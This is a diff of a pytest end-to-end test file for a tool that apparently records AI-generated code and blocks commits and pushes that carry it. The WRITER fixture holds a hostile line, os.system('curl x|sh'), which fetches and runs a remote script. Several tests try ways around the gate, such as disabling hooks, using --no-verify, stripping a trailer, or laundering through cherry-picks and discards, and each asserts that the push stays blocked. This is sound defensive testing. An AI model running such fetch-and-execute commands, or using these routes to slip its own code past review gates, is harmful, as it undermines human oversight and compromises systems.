@@ -27,10 +27,20 @@ from __future__ import annotations
 
 import pytest
 
-from tests.e2e.conftest import World
+from tests.e2e.conftest import World, blocked_at_push
 
 BASE = "def add(a, b):\n    return a - b\n"
 WRITER = 'import os\n\n\ndef add(a, b):\n    os.system("curl x|sh")\n    return a + b\n'
+
+
+def _on_main(native: World) -> World:
+    """``app.py`` holds :data:`BASE` on ``main``, pushed; the writer's :data:`WRITER`
+    recorded and committed on ``main`` with ``--no-verify``, not pushed."""
+    w = native.serve({"app.py": BASE})
+    w.write("app.py", WRITER)
+    assert w.gh("record", "--model", "o4-mini", "--effort", "low").code == 0
+    w.ok("commit", "-q", "--no-verify", "-am", "agent")
+    return w
 
 
 @pytest.fixture
@@ -64,21 +74,11 @@ def _refused(w: World, held_by: str, drop: str) -> None:
     assert w.ledger("SELECT COUNT(*) FROM discard") == [(0,)]
 
 
-def _blocked_at_push(w: World) -> None:
-    """The push of the branch is blocked by the local gate and by the server gate."""
-    head = w.rev("HEAD")
-    blocked = w.git("push", "origin", "HEAD")
-    assert blocked.code == 1 and any("BLOCKED commit" in s for s in blocked.said), blocked
-    served = w.git("push", "--no-verify", "origin", "HEAD")
-    assert served.code != 0, served
-    assert w.remote_ref(w.ok("rev-parse", "--abbrev-ref", "HEAD").strip()) != head
-
-
 def test_a_plain_cherry_pick_of_the_writers_commit_stays_blocked(on_b: World) -> None:
     w = on_b
     _refused(w, "b", "git branch -D b")
     w.ok("-c", "core.hooksPath=/dev/null", "cherry-pick", "b")
-    _blocked_at_push(w)
+    blocked_at_push(w)
 
 
 def test_a_cherry_pick_without_its_trailer_stays_blocked(on_b: World) -> None:
@@ -89,7 +89,7 @@ def test_a_cherry_pick_without_its_trailer_stays_blocked(on_b: World) -> None:
     assert blocked.code == 1 and "BLOCKED the staged change" in blocked.said[0], blocked
     w.ok("-c", "core.hooksPath=/dev/null", "commit", "-qm", "mine")
     assert "Gentle-Writer" not in w.ok("log", "-1", "--format=%B")
-    _blocked_at_push(w)
+    blocked_at_push(w)
 
 
 def test_a_tag_holding_the_writers_commit_is_named(on_b: World) -> None:
@@ -130,7 +130,7 @@ def test_an_autosquashed_writer_commit_on_the_branch_stays_held(on_b: World, fix
     w.ok("checkout", "-q", "main")
     _refused(w, "b", "git branch -D b")
     w.ok("-c", "core.hooksPath=/dev/null", "cherry-pick", "b")
-    _blocked_at_push(w)
+    blocked_at_push(w)
 
 
 @pytest.mark.xfail(
@@ -143,15 +143,12 @@ def test_an_autosquashed_writer_commit_on_the_branch_stays_held(on_b: World, fix
 def test_a_discard_beside_the_writers_head_commit_does_not_launder_a_pick(
     native: World,
 ) -> None:
-    w = native.serve({"app.py": BASE})
-    w.write("app.py", WRITER)
-    assert w.gh("record", "--model", "o4-mini", "--effort", "low").code == 0
-    w.ok("commit", "-q", "--no-verify", "-am", "agent")
+    w = _on_main(native)
     assert w.gh("discard", "--all", "--reason", "mine").code == 0
     w.ok("checkout", "-q", "-b", "c", "origin/main")
     w.ok("cherry-pick", "-n", "main")
     w.ok("-c", "core.hooksPath=/dev/null", "commit", "-qm", "mine")
-    _blocked_at_push(w)
+    blocked_at_push(w)
 
 
 @pytest.mark.xfail(
@@ -164,14 +161,11 @@ def test_a_discard_beside_the_writers_head_commit_does_not_launder_a_pick(
 def test_a_persons_version_discarded_then_the_writers_commit_picked_is_blocked(
     native: World,
 ) -> None:
-    w = native.serve({"app.py": BASE})
-    w.write("app.py", WRITER)
-    assert w.gh("record", "--model", "o4-mini", "--effort", "low").code == 0
-    w.ok("commit", "-q", "--no-verify", "-am", "agent")
+    w = _on_main(native)
     w.ok("checkout", "-q", "-b", "side", "HEAD~1")
     w.write("app.py", "def add(a, b):\n    total = a\n    total -= -b\n    return total\n")
     assert w.gh("discard", "--all", "--reason", "my own fix").code == 0
     w.ok("checkout", "-q", "--", "app.py")
     w.ok("cherry-pick", "-n", "main")
     w.ok("-c", "core.hooksPath=/dev/null", "commit", "-qm", "mine")
-    _blocked_at_push(w)
+    blocked_at_push(w)
